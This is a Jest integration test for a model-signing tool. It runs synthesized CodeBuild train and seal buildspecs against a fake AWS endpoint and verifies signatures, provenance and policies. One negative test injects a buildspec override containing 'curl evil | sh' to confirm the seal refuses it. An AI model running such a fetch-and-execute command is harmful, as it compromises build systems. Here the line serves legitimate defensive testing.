/**
 * Runs the runner's two synthesized buildspecs on this machine, in order, the way CodeBuild would: the README's own
 * example (its props and commands, taken from README.md and synthesized here), its train buildspec with the README's
 * training command, then its seal buildspec.
 *
 * What is swapped for local stand-ins, and nothing else:
 * - S3 and CodeBuild: a fake on loopback (test/helpers/fake-aws.ts) that the bundled CLI reaches through
 *   `AWS_ENDPOINT_URL_S3`/`AWS_ENDPOINT_URL_CODEBUILD`; it answers BatchGetBuilds with the train build's facts the test
 *   sets, as CodeBuild would report them;
 * - the AWS CLI: a shim (test/helpers/aws-shim/aws) that runs exactly the `aws s3` command lines the buildspecs use;
 * - the signer and the store: a local key and a local store, through the variables the seal buildspec already reads
 *   (the seal project's definition in the fake says the same, so its own override check still runs).
 */
import { spawn, spawnSync } from 'child_process';
import { createHash, generateKeyPairSync } from 'crypto';
import * as fs from 'fs';
import * as os from 'os';
import * as path from 'path';
import type { Build, Project } from '@aws-sdk/client-codebuild';
import { App, Stack } from 'aws-cdk-lib';
import { Template } from 'aws-cdk-lib/assertions';
import { Construct } from 'constructs';
import * as ts from 'typescript';
import * as library from '../../src';
import { HardenedBuildRunnerProps, ModelWeightsKey } from '../../src';
import { ensureCliBundle, REPO_ROOT } from '../helpers/cli-bundle';
import { FakeAws } from '../helpers/fake-aws';

const ACCOUNT = '123456789012';
const REGION = 'eu-west-1';
const DATA = 'training-data';
const STAGING = 'runner-staging';
const TRAIN_ROLE = `arn:aws:iam::${ACCOUNT}:role/Training-RunnerTrainRole-1`;
const TRAIN_UUID = '11111111-2222-4333-8444-555555555555';
const SEAL_UUID = '99999999-8888-4777-8666-555555555555';
const WEIGHTS_KEY = `arn:aws:kms:${REGION}:${ACCOUNT}:key/0f0e0d0c-0b0a-4909-8807-060504030201`;
const SHIM = path.join(REPO_ROOT, 'test', 'helpers', 'aws-shim');
const FIXTURES = path.join(REPO_ROOT, 'test', 'fixtures');
const sha256 = (b: Buffer | string) => createHash('sha256').update(b).digest('hex');

/**
 * The README's HardenedBuildRunner example, run as written (imports of 'modelseal' point at src/); `extra` adds props
 * to its runner (made in the runner's scope), for the options the README only describes.
 */
function readmeExample(extra?: (scope: Construct) => Partial<HardenedBuildRunnerProps>): { stack: Stack; app: App } {
  const readme = fs.readFileSync(path.join(REPO_ROOT, 'README.md'), 'utf8');
  const block = [...readme.matchAll(/```ts\n([\s\S]*?)```/g)].map((m) => m[1]).find((b) => b.includes('new HardenedBuildRunner('));
  if (!block) throw new Error('README.md has no ```ts block with new HardenedBuildRunner(');
  const js = ts.transpileModule(`${block}\nmodule.exports = { app, stack };\n`, {
    compilerOptions: { module: ts.ModuleKind.CommonJS, target: ts.ScriptTarget.ES2022, esModuleInterop: true },
  }).outputText;
  const mod = { exports: {} as { app: App; stack: Stack } };
  // the example's own imports, resolved here: 'modelseal' is this repository's src/
  class Runner extends library.HardenedBuildRunner {
    constructor(scope: Construct, id: string, props: HardenedBuildRunnerProps) {
      super(scope, id, { ...props, ...extra?.(scope) });
    }
  }
  // eslint-disable-next-line @typescript-eslint/no-require-imports
  const req = (name: string) => (name === 'modelseal' ? (extra ? { ...library, HardenedBuildRunner: Runner } : library) : require(name));
  new Function('require', 'module', 'exports', js)(req, mod, mod.exports);
  return mod.exports;
}

interface Synthesized {
  readonly image: string;
  readonly trainName: string;
  readonly sealName: string;
  readonly trainSpec: string;
  readonly sealSpec: string;
  readonly trainEnv: Record<string, string>;
  readonly sealEnv: Record<string, string>;
  readonly prefix: string;
  readonly modelName: string;
}

let cli: string;
let synth: Synthesized;
let work: string;
let aws: FakeAws;
let server: { url: string; close: () => Promise<void> };

/** The two projects of a synthesized runner, as the test runs them. */
function synthesize(stack: Stack): Synthesized {
  const projects = Object.values<any>(Template.fromStack(stack).findResources('AWS::CodeBuild::Project'));
  const tagged = (tag: string) => projects.find((p) => p.Properties.Tags.some((x: any) => x.Key === 'modelseal:role' && x.Value === tag)).Properties;
  const train = tagged('train');
  const seal = tagged('seal');
  const literals = (vars: any[]) => Object.fromEntries(vars.filter((v) => typeof v.Value === 'string').map((v) => [v.Name, v.Value]));
  // MODEL_SOURCE_URI is s3://<bucket token>/<prefix>: Fn::Join ['', ['s3://', {Ref}, '/<prefix>']]
  const sourceParts: unknown[] = train.Environment.EnvironmentVariables.find((v: any) => v.Name === 'MODEL_SOURCE_URI').Value['Fn::Join'][1];
  return {
    image: train.Environment.Image,
    trainName: train.Name,
    sealName: seal.Name,
    trainSpec: train.Source.BuildSpec,
    sealSpec: seal.Source.BuildSpec,
    trainEnv: literals(train.Environment.EnvironmentVariables),
    sealEnv: literals(seal.Environment.EnvironmentVariables),
    prefix: String(sourceParts[sourceParts.length - 1]).replace(/^\//, ''),
    modelName: literals(seal.Environment.EnvironmentVariables).MODEL_NAME,
  };
}

beforeAll(() => {
  cli = ensureCliBundle();
  synth = synthesize(readmeExample().stack);
});

beforeEach(async () => {
  work = fs.mkdtempSync(path.join(os.tmpdir(), 'modelseal-runner-'));
  aws = new FakeAws();
  server = await aws.listen();
  const { privateKey, publicKey } = generateKeyPairSync('ec', { namedCurve: 'P-256' });
  fs.writeFileSync(path.join(work, 'ci.key.pem'), privateKey.export({ type: 'pkcs8', format: 'pem' }));
  fs.writeFileSync(path.join(work, 'ci.pub.pem'), publicKey.export({ type: 'spki', format: 'pem' }));
});

afterEach(async () => {
  await server?.close();
  fs.rmSync(work, { recursive: true, force: true });
});

const trainArn = () => `arn:aws:codebuild:${REGION}:${ACCOUNT}:build/${synth.trainName}:${TRAIN_UUID}`;

/** The inputs as the README says to upload them: the script, the card and the data, then the marker. */
function uploadInputs(at: Date): Record<string, string> {
  const files: Record<string, Buffer> = {
    'train.py': fs.readFileSync(path.join(FIXTURES, 'runner', 'train.py')),
    'transactions.csv': fs.readFileSync(path.join(FIXTURES, 'runner', 'transactions.csv')),
    'model-card.yaml': fs.readFileSync(path.join(FIXTURES, 'sbom', 'model-card.yaml')),
  };
  const versions: Record<string, string> = {};
  for (const [name, body] of Object.entries(files)) versions[name] = aws.put(DATA, `${synth.prefix}${name}`, body, at);
  versions._SUCCESS = aws.put(DATA, `${synth.prefix}_SUCCESS`, '', new Date(at.getTime() + 5_000));
  return versions;
}

function baseEnv(): NodeJS.ProcessEnv {
  return {
    PATH: `${SHIM}:${process.env.PATH}`,
    HOME: work,
    AWS_REGION: REGION,
    AWS_ACCESS_KEY_ID: 'AKIDFAKEFAKEFAKE',
    AWS_SECRET_ACCESS_KEY: 'fake',
    AWS_ENDPOINT_URL_S3: server.url,
    AWS_ENDPOINT_URL_CODEBUILD: server.url,
    AWS_ENDPOINT_URL_KMS: server.url,
    AWS_SDK_JS_NODE_VERSION_SUPPORT_WARNING_DISABLED: 'true',
  };
}

/** The train project's variables, with what CloudFormation would resolve filled in. */
function trainVariables(): Record<string, string> {
  return { ...synth.trainEnv, MODEL_SOURCE_URI: `s3://${DATA}/${synth.prefix}`, MODEL_STAGING_URI: `s3://${STAGING}/` };
}

/**
 * Runs one phase's commands as CodeBuild does: in order, in one bash, stopping at the first failing command.
 * Asynchronously: the fake AWS endpoint answers from this process, so its event loop must keep running.
 */
function runCommands(commands: string[], cwd: string, env: NodeJS.ProcessEnv): Promise<{ status: number | null; stdout: string; stderr: string }> {
  return new Promise((resolve, reject) => {
    const child = spawn('bash', ['-c', ['set -e', ...commands].join('\n')], { cwd, env, stdio: ['ignore', 'pipe', 'pipe'] });
    let stdout = '';
    let stderr = '';
    child.stdout.on('data', (d: Buffer) => (stdout += d.toString()));
    child.stderr.on('data', (d: Buffer) => (stderr += d.toString()));
    const timer = setTimeout(() => child.kill('SIGKILL'), 120_000);
    child.on('error', (e) => { clearTimeout(timer); reject(e); });
    child.on('close', (status) => { clearTimeout(timer); resolve({ status, stdout, stderr }); });
  });
}

/** The train build: its buildspec in a fresh source directory, with the README's command. */
function runTrain(extraEnv: Record<string, string> = {}) {
  const src = path.join(work, 'train-src');
  fs.mkdirSync(src, { recursive: true });
  const spec = JSON.parse(synth.trainSpec);
  const env = {
    ...baseEnv(),
    ...trainVariables(),
    ...extraEnv,
    CODEBUILD_SRC_DIR: src,
    CODEBUILD_BUILD_ARN: trainArn(),
    CODEBUILD_BUILD_ID: `${synth.trainName}:${TRAIN_UUID}`,
    // what the training code sees; the seal must take the build number from CodeBuild, not from here
    CODEBUILD_BUILD_NUMBER: '99',
  };
  return runCommands(spec.phases.build.commands, src, env);
}

/** What CodeBuild would report about the train build and both projects. */
function registerBuilds(opts: { start: Date; end: Date; status?: string; buildspec?: string; overrides?: Record<string, string> }): void {
  const vars = (o: Record<string, string>) => Object.entries(o).map(([name, value]) => ({ name, value, type: 'PLAINTEXT' as const }));
  const trainProject: Project = {
    name: synth.trainName,
    source: { type: 'NO_SOURCE', buildspec: synth.trainSpec },
    environment: { type: 'LINUX_CONTAINER', image: synth.image, computeType: 'BUILD_GENERAL1_LARGE', environmentVariables: vars(trainVariables()) },
    serviceRole: TRAIN_ROLE,
  };
  aws.projects.set(synth.trainName, trainProject);
  aws.builds.set(`${synth.trainName}:${TRAIN_UUID}`, {
    id: `${synth.trainName}:${TRAIN_UUID}`,
    arn: trainArn(),
    buildNumber: 7,
    projectName: synth.trainName,
    buildStatus: opts.status ?? 'SUCCEEDED',
    buildComplete: true,
    startTime: opts.start,
    endTime: opts.end,
    initiator: 'Training-RunnerUploadTriggerRole-2/8f2d',
    serviceRole: TRAIN_ROLE,
    source: { type: 'NO_SOURCE', buildspec: opts.buildspec ?? synth.trainSpec },
    environment: {
      type: 'LINUX_CONTAINER',
      image: synth.image,
      computeType: 'BUILD_GENERAL1_LARGE',
      privilegedMode: false,
      environmentVariables: vars({ ...trainVariables(), MODELSEAL_SOURCE_KEY: `${synth.prefix}_SUCCESS`, ...opts.overrides }),
    },
  } as Build);
}

/** The seal project's variables: CloudFormation's values, with the local signer and store swapped in. */
function sealVariables(): Record<string, string> {
  return {
    ...synth.sealEnv,
    TRAIN_ROLE_ARN: TRAIN_ROLE,
    MODEL_STAGING_URI: `s3://${STAGING}/`,
    MODEL_SOURCE_URI: `s3://${DATA}/${synth.prefix}`,
    MODELSEAL_SIGNER: 'key',
    MODELSEAL_PRIVATE_KEY: path.join(work, 'ci.key.pem'),
    MODELSEAL_KMS_KEY: '',
    MODELSEAL_STORE: `file://${path.join(work, 'store')}`,
    MODELSEAL_STORE_KMS_KEY_ARN: '',
    // what CloudFormation resolves the weights key's ARN to, when the runner seals weights
    ...(synth.sealSpec.includes('WEIGHTS_KEY_ARN') ? { WEIGHTS_KEY_ARN: WEIGHTS_KEY } : {}),
  };
}

/** The seal build: started by the rule with TRAIN_BUILD_ID, its source is the CLI asset directory. */
function runSeal(cliDir = path.dirname(cli)) {
  const vars = (o: Record<string, string>) => Object.entries(o).map(([name, value]) => ({ name, value, type: 'PLAINTEXT' as const }));
  aws.projects.set(synth.sealName, {
    name: synth.sealName,
    source: { type: 'S3', buildspec: synth.sealSpec },
    environment: { type: 'LINUX_CONTAINER', image: 'aws/codebuild/amazonlinux-x86_64-standard:5.0', computeType: 'BUILD_GENERAL1_LARGE', environmentVariables: vars(sealVariables()) },
  });
  aws.builds.set(`${synth.sealName}:${SEAL_UUID}`, {
    id: `${synth.sealName}:${SEAL_UUID}`,
    arn: `arn:aws:codebuild:${REGION}:${ACCOUNT}:build/${synth.sealName}:${SEAL_UUID}`,
    buildNumber: 3,
    projectName: synth.sealName,
    buildStatus: 'IN_PROGRESS',
    startTime: new Date(),
    source: { type: 'S3', buildspec: synth.sealSpec },
    environment: {
      type: 'LINUX_CONTAINER',
      image: 'aws/codebuild/amazonlinux-x86_64-standard:5.0',
      computeType: 'BUILD_GENERAL1_LARGE',
      environmentVariables: vars({ ...sealVariables(), TRAIN_BUILD_ID: trainArn() }),
    },
  });
  const spec = JSON.parse(synth.sealSpec);
  const env = {
    ...baseEnv(),
    ...sealVariables(),
    TRAIN_BUILD_ID: trainArn(),
    CODEBUILD_SRC_DIR: cliDir,
    CODEBUILD_BUILD_ID: `${synth.sealName}:${SEAL_UUID}`,
    CODEBUILD_BUILD_ARN: `arn:aws:codebuild:${REGION}:${ACCOUNT}:build/${synth.sealName}:${SEAL_UUID}`,
  };
  return runCommands(spec.phases.build.commands, work, env);
}

function modelseal(...args: string[]) {
  return spawnSync(process.execPath, [cli, ...args], { cwd: work, encoding: 'utf8', env: { ...process.env, AWS_SDK_JS_NODE_VERSION_SUPPORT_WARNING_DISABLED: 'true' } });
}

/** Writes a trust policy that requires the CI key's signature, with `attestations` (YAML lines under `attestations:`). */
function writeCiPolicy(file: string, attestations: string[]): void {
  fs.writeFileSync(path.join(work, file), [
    'apiVersion: modelseal.dev/v1',
    'kind: TrustPolicy',
    'signers:',
    '  - name: ci',
    '    publicKey: ci.pub.pem',
    'require:',
    '  allOf: [ci]',
    'attestations:',
    ...attestations,
    '',
  ].join('\n'));
}

function storeKeys(): string[] {
  const root = path.join(work, 'store');
  if (!fs.existsSync(root)) return [];
  const walk = (d: string): string[] => fs.readdirSync(d, { withFileTypes: true })
    .flatMap((e) => (e.isDirectory() ? walk(path.join(d, e.name)) : [path.join(d, e.name)]));
  return walk(root).map((f) => path.relative(root, f)).sort();
}

function payloadOf(key: string): any {
  return JSON.parse(Buffer.from(JSON.parse(fs.readFileSync(path.join(work, 'store', key), 'utf8')).dsseEnvelope.payload, 'base64').toString());
}

/** The train build, as the README describes it, with times CodeBuild would report around it. */
async function trainAndRegister(overrides: Partial<Parameters<typeof registerBuilds>[0]> = {}) {
  const versions = uploadInputs(new Date(Date.now() - 60_000));
  const start = new Date(Date.now() - 1_000);
  const run = await runTrain();
  const end = new Date(Date.now() + 1_000);
  registerBuilds({ start, end, ...overrides });
  return { run, versions, start, end };
}

test('the README example synthesizes two projects whose buildspecs this test runs', () => {
  expect(synth.prefix).toBe('fraud/');
  expect(synth.modelName).toBe('fraud-detector');
  expect(JSON.parse(synth.trainSpec).phases.build.commands).toContain('python3 inputs/train.py --data inputs --out model');
  expect(synth.sealSpec).not.toContain('python3 inputs/train.py');
});

test('train, then seal: a bundle, an SBOM and a provenance whose dependencies are the inputs\' S3 versions; the staged model verifies and meets the policy', async () => {
  const { run: train, versions, start, end } = await trainAndRegister();
  expect({ status: train.status, stderr: train.stderr }).toEqual({ status: 0, stderr: '' });
  expect(train.stdout).toContain('trained on 5 rows');
  // the train build staged the model under its own build's ARN
  const staged = aws.current(STAGING, `${trainArn()}/model/`).map((v) => v.key.slice(`${trainArn()}/model/`.length));
  expect(staged.sort()).toEqual(['config.json', 'weights.json']);

  const seal = await runSeal();
  expect({ status: seal.status, stderr: seal.stderr }).toEqual({ status: 0, stderr: expect.any(String) });
  const root = /model root digest: sha256:([0-9a-f]{64}) \(train build #7\)/.exec(seal.stdout)?.[1];
  expect(root).toBeDefined();
  // the seal asked CodeBuild about both builds and listed versions, and read nothing the training wrote about itself
  expect(aws.requests).toEqual(expect.arrayContaining(['CodeBuild_20161006.BatchGetBuilds', 'CodeBuild_20161006.BatchGetProjects']));

  const keys = storeKeys();
  expect(keys.filter((k) => k.startsWith(`bundles/sha256/${root}/`))).toHaveLength(1);
  expect(keys.filter((k) => k.startsWith(`attestations/sha256/${root}/cyclonedx-bom/`))).toHaveLength(1);
  const provenanceKey = keys.find((k) => k.startsWith(`attestations/sha256/${root}/slsa-provenance-v1/`))!;
  // the reference's version is the train build number CodeBuild reported (7), not the 99 the training saw
  expect(modelseal('ref', 'get', '--store', `file://${path.join(work, 'store')}`, 'fraud-detector', '7').stdout.trim()).toBe(`sha256:${root}`);

  const provenance = payloadOf(provenanceKey);
  expect(provenance.subject).toEqual([{ name: 'fraud-detector', digest: { sha256: root } }]);
  const predicate = provenance.predicate;
  expect(predicate.runDetails.builder.id).toBe(`arn:aws:codebuild:${REGION}:${ACCOUNT}:project/${synth.sealName}`);
  expect(predicate.runDetails.metadata).toEqual({ invocationId: trainArn(), startedOn: start.toISOString(), finishedOn: end.toISOString() });
  const inputs = ['_SUCCESS', 'model-card.yaml', 'train.py', 'transactions.csv'];
  const bytes = (name: string) => (name === '_SUCCESS' ? Buffer.alloc(0)
    : fs.readFileSync(path.join(FIXTURES, name === 'model-card.yaml' ? 'sbom' : 'runner', name)));
  expect(predicate.buildDefinition.resolvedDependencies).toEqual([
    { uri: `oci://${synth.image.split('@')[0]}`, name: 'train-image', digest: { sha256: synth.image.split('@sha256:')[1] } },
    ...inputs.map((name) => ({
      uri: `s3://${DATA}/fraud/${name}`,
      name,
      digest: { sha256: sha256(bytes(name)) },
      annotations: { versionId: versions[name], lastModified: expect.stringMatching(/Z$/) },
    })),
  ]);
  expect(predicate.buildDefinition.externalParameters).toMatchObject({ modelName: 'fraud-detector', triggerKey: 'fraud/_SUCCESS', source: `s3://${DATA}/fraud/` });

  // the staged model, downloaded by exact version, verifies against the published bundle
  fs.mkdirSync(path.join(work, 'staged'));
  for (const v of aws.current(STAGING, `${trainArn()}/model/`)) fs.writeFileSync(path.join(work, 'staged', path.basename(v.key)), v.body!);
  const fetched = modelseal('fetch', '--store', `file://${path.join(work, 'store')}`, '--out', 'fetched', `sha256:${root}`);
  expect(fetched.status).toBe(0);
  const bundle = keys.find((k) => k.startsWith('bundles/'))!;
  const verify = modelseal('verify', 'key', 'staged', '--signature', path.join('fetched', bundle), '--public-key', 'ci.pub.pem');
  expect({ status: verify.status, err: verify.stderr }).toEqual({ status: 0, err: '' });

  // a trust policy that needs the CI signature, an SBOM, and a provenance from this seal project with this train image
  writeCiPolicy('policy.yaml', [
    '  - predicateType: https://cyclonedx.org/bom',
    '    signers: [ci]',
    '    conditions:',
    '      - name: accuracy',
    '        expression: predicate.metadata.component.modelCard.quantitativeAnalysis.performanceMetrics.exists(m, m.type == "accuracy" && double(m.value) >= 0.9)',
    '  - predicateType: https://slsa.dev/provenance/v1',
    '    signers: [ci]',
    '    conditions:',
    '      - name: sealed-by-this-runner',
    `        expression: predicate.runDetails.builder.id == "arn:aws:codebuild:${REGION}:${ACCOUNT}:project/${synth.sealName}"`,
    '      - name: reviewed-train-image',
    `        expression: predicate.buildDefinition.resolvedDependencies.exists(d, d.name == "train-image" && d.digest.sha256 == "${synth.image.split('@sha256:')[1]}")`,
  ]);
  const check = modelseal('check', '--store', `file://${path.join(work, 'store')}`, '--policy', 'policy.yaml', `sha256:${root}`);
  expect({ status: check.status, out: check.stdout }).toEqual({ status: 0, out: expect.any(String) });
  // the load-time check: the decision, then the files on disk against exactly the manifest that met the policy
  const loaded = modelseal('verify', 'policy', 'staged', '--store', `file://${path.join(work, 'store')}`, '--policy', 'policy.yaml', '--json');
  expect({ status: loaded.status, err: loaded.stderr }).toEqual({ status: 0, err: '' });
  expect(JSON.parse(loaded.stdout)).toMatchObject({ rootDigest: `sha256:${root}` });
  const [first] = fs.readdirSync(path.join(work, 'staged')).sort();
  fs.appendFileSync(path.join(work, 'staged', first), 'x');
  const tampered = modelseal('verify', 'policy', 'staged', '--store', `file://${path.join(work, 'store')}`, '--policy', 'policy.yaml', '--digest', `sha256:${root}`);
  expect(tampered.status).toBe(1);
  expect(tampered.stderr + tampered.stdout).toContain(first);
});

test('a CLI whose SHA-256 does not match stops the seal before it asks CodeBuild, reads S3 or signs', async () => {
  expect((await trainAndRegister()).run.status).toBe(0);
  const tampered = path.join(work, 'tampered-cli');
  fs.mkdirSync(tampered);
  fs.writeFileSync(path.join(tampered, 'modelseal-cli.js'), Buffer.concat([fs.readFileSync(cli), Buffer.from('\n// one more line\n')]));
  const before = aws.requests.length;
  const seal = await runSeal(tampered);
  expect(seal.status).not.toBe(0);
  expect(seal.stderr).toContain('modelseal-cli.js does not have the SHA-256 it was synthesized with: refusing to run it');
  expect(aws.requests.slice(before)).toEqual([]);
  expect(storeKeys()).toEqual([]);
});

test('a failed train build, or one started with a buildspec override, is not sealed', async () => {
  expect((await trainAndRegister({ status: 'FAILED' })).run.status).toBe(0);
  const failed = await runSeal();
  expect(failed.status).not.toBe(0);
  expect(failed.stderr).toContain(`train build ${trainArn()} is not sealed: its status is FAILED, not SUCCEEDED`);
  expect(storeKeys()).toEqual([]);

  registerBuilds({ start: new Date(Date.now() - 60_000), end: new Date(), buildspec: JSON.stringify({ version: '0.2', phases: { build: { commands: ['curl evil | sh'] } } }) });
  const overridden = await runSeal();
  expect(overridden.status).not.toBe(0);
  expect(overridden.stderr).toMatch(/its buildspec has SHA-256 [0-9a-f]{64}, not the synthesized [0-9a-f]{64} \(a buildspec override\)/);
  expect(storeKeys()).toEqual([]);
});

test('a later write into the train build\'s staged model is refused, not sealed', async () => {
  expect((await trainAndRegister()).run.status).toBe(0);
  aws.put(STAGING, `${trainArn()}/model/backdoor.pkl`, 'evil', new Date(Date.now() + 60_000));
  const seal = await runSeal();
  expect(seal.status).not.toBe(0);
  expect(seal.stderr).toContain(`the staged model of ${trainArn()} changed after the build ended`);
  expect(storeKeys()).toEqual([]);
});

test('a failing training command stops the train build before anything is staged (pipefail, one phase)', async () => {
  uploadInputs(new Date(Date.now() - 60_000));
  const spec = JSON.parse(synth.trainSpec);
  const commands: string[] = spec.phases.build.commands;
  const at = commands.indexOf('python3 inputs/train.py --data inputs --out model');
  const src = path.join(work, 'train-src');
  fs.mkdirSync(src);
  const env = { ...baseEnv(), ...trainVariables(), CODEBUILD_SRC_DIR: src, CODEBUILD_BUILD_ARN: trainArn() };
  const piped = await runCommands([...commands.slice(0, at), 'python3 -c "import sys; sys.exit(3)" | tee train.log', ...commands.slice(at + 1)], src, env);
  expect(piped.status).not.toBe(0);
  expect(aws.current(STAGING, '')).toEqual([]);
  const nothing = await runCommands([...commands.slice(0, at), 'true # wrote nothing', ...commands.slice(at + 1)], src, env);
  expect(nothing.status).not.toBe(0);
  expect(nothing.stderr).toContain('the build commands wrote no file under model');
  expect(aws.current(STAGING, '')).toEqual([]);
});

test('with weightsKey, the seal also seals the weights for the enclave image: the sealed files in staging, their signature and the enclave-seal attestation in the store; they verify by policy and unseal to the staged model', async () => {
  const pcrs = { pcr0: 'a1'.repeat(48), pcr1: 'b2'.repeat(48), pcr2: 'c3'.repeat(48), pcr8: 'd4'.repeat(48) };
  const plain = synth;
  synth = synthesize(readmeExample((scope) => ({
    weightsKey: new ModelWeightsKey(scope, 'WeightsKey', { enclavePcr8: [pcrs.pcr8] }),
    enclaveMeasurements: pcrs,
  })).stack);
  try {
    // the measurements are in the buildspec itself, where no StartBuild override reaches
    expect(synth.sealSpec).toContain(`\\"PCR8\\":\\"${pcrs.pcr8}\\"`);
    const { run } = await trainAndRegister();
    expect(run.status).toBe(0);
    const seal = await runSeal();
    expect({ status: seal.status, err: seal.stderr }).toEqual({ status: 0, err: '' });

    // one data key, from the weights key
    expect(aws.dataKeys.map((k) => k.keyId)).toEqual([WEIGHTS_KEY]);
    const root = /sealed fraud-detector version 7: sha256:([0-9a-f]{64})/.exec(seal.stdout)![1];
    const sealedAt = 'sealed/fraud-detector/7/';
    expect(seal.stdout).toContain(`sealed weights at s3://${STAGING}/${sealedAt}`);
    const sealedFiles = aws.current(STAGING, sealedAt);
    expect(sealedFiles.map((v) => v.key.slice(sealedAt.length))).toContain('modelseal-sealed.json');
    fs.mkdirSync(path.join(work, 'sealed'));
    for (const v of sealedFiles) {
      fs.mkdirSync(path.dirname(path.join(work, 'sealed', v.key.slice(sealedAt.length))), { recursive: true });
      fs.writeFileSync(path.join(work, 'sealed', v.key.slice(sealedAt.length)), v.body!);
    }

    // the enclave-seal attestation names the plaintext root, the weights key and the image's measurements
    const keys = storeKeys();
    const attestation = keys.find((k) => k.includes('/modelseal-dev-enclave-seal-v1/'))!;
    expect(attestation).toBeDefined();
    const predicate = payloadOf(attestation).predicate;
    expect(predicate).toMatchObject({
      plaintext: { rootDigest: `sha256:${root}` },
      weightsKey: { keyArn: WEIGHTS_KEY },
      enclave: { pcrs: { PCR0: pcrs.pcr0, PCR1: pcrs.pcr1, PCR2: pcrs.pcr2, PCR8: pcrs.pcr8 } },
    });
    const sealedRoot = /attestations\/sha256\/([0-9a-f]{64})\//.exec(attestation)![1];
    expect(keys.some((k) => k.startsWith(`bundles/sha256/${sealedRoot}/`))).toBe(true);

    // what the enclave host runs before it starts the enclave: verify policy on the sealed files
    writeCiPolicy('sealed-policy.yaml', [
      '  - predicateType: https://modelseal.dev/enclave-seal/v1',
      '    signers: [ci]',
      '    conditions:',
      '      - name: enclave-image',
      `        expression: predicate.enclave.pcrs.PCR8 == "${pcrs.pcr8}" && predicate.plaintext.rootDigest == "sha256:${root}"`,
    ]);
    const hostCheck = modelseal('verify', 'policy', 'sealed', '--store', `file://${path.join(work, 'store')}`, '--policy', 'sealed-policy.yaml');
    expect({ status: hostCheck.status, err: hostCheck.stderr }).toEqual({ status: 0, err: '' });

    // what the enclave runs: unseal with the data key, pinned to the signed plaintext root; it is the staged model
    fs.writeFileSync(path.join(work, 'data-key'), aws.dataKeys[0].plaintext);
    const unsealed = modelseal('unseal', 'sealed', 'unsealed', '--data-key-file', 'data-key', '--digest', `sha256:${root}`);
    expect({ status: unsealed.status, err: unsealed.stderr }).toEqual({ status: 0, err: '' });
    const staged = aws.current(STAGING, `${trainArn()}/model/`);
    expect(staged.length).toBeGreaterThan(0);
    for (const v of staged) {
      expect(fs.readFileSync(path.join(work, 'unsealed', path.basename(v.key)))).toEqual(v.body);
    }
  } finally {
    synth = plain;
  }
});
